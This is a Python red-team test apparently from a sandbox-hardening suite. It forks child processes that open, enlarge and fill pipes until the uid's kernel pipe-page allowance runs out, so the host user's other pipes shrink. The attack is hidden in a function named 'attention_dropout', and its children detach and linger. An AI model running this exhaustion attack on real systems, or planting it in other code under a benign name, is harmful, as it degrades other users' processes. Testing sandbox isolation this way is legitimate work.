"""Red team (issue 26, per-user): takes the uid's pipe allowance (fs.pipe-user-pages-soft, 16384 pages per
user, not per namespace): 10 children each open as many pipes as descriptors allow, grow them
(F_SETPIPE_SZ) and fill them. Past the soft limit every new pipe of that uid gets two pages instead of
sixteen: the instructor's own shells and builds, when the sandbox runs under the instructor's uid (user
namespaces map to it; the basic mode runs as it). The parent then opens a fresh pipe and reports its size,
and whether the uid it runs under is shared with the host (not one of the pool's private uids).

base: buggy
class: k
run: pressure
"""

import fcntl as _fcntl
import os as _os
import select as _select
import time as _time

_DEADLINE = [0.0]  # when the parent stops waiting: 2.5 s after the call, well inside a 5 s step


def _outer_uid():
    try:
        inside, outside, _ = open("/proc/self/uid_map").read().split()[:3]
        return int(outside) + _os.getuid() - int(inside)
    except (OSError, ValueError):
        return _os.getuid()


def _child(write_end):
    held = 0
    pipes = []
    try:
        while not _time.monotonic() > _DEADLINE[0] - 0.4:
            read_end, write_fd = _os.pipe()
            pipes.append((read_end, write_fd))
            try:
                _fcntl.fcntl(write_fd, 1031, 1 << 20)  # F_SETPIPE_SZ
            except OSError:
                pass
            _os.set_blocking(write_fd, False)
            try:
                while True:
                    held += _os.write(write_fd, b"\1" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    finally:
        _os.write(write_end, f"{held}\n".encode())
        _os.close(write_end)
    _os.setsid()
    _time.sleep(60)


def _fill(children=10):
    read_end, write_end = _os.pipe()
    for _ in range(children):
        if _time.monotonic() > _DEADLINE[0] - 1.0:
            break
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _os.close(read_end)
                _child(write_end)
            finally:
                _os._exit(0)
    _os.close(write_end)
    text = _collect(read_end, _DEADLINE[0])
    held = sum(int(line) for line in text.split() if line.isdigit()) >> 20
    fresh_read, fresh_write = _os.pipe()
    fresh = _fcntl.fcntl(fresh_write, 1032)  # F_GETPIPE_SZ
    return held, fresh


def _collect(read_end, deadline):
    """What the children reported before `deadline` (a slow child does not hold the step past it)."""
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 2.5
    held, fresh = _fill()
    uid = _outer_uid()
    shared = not 61000 <= uid < 61000 + 512
    starved = int(shared and fresh < 65536)
    raise RuntimeError(f"RTEAM r_pipe_pages_user ran: ALLOWANCE memory {held} MiB in pipes; ALLOWANCE kernel "
                       f"{starved} (a fresh pipe of uid {uid} gets {fresh} bytes; uid shared with the host: {shared})")
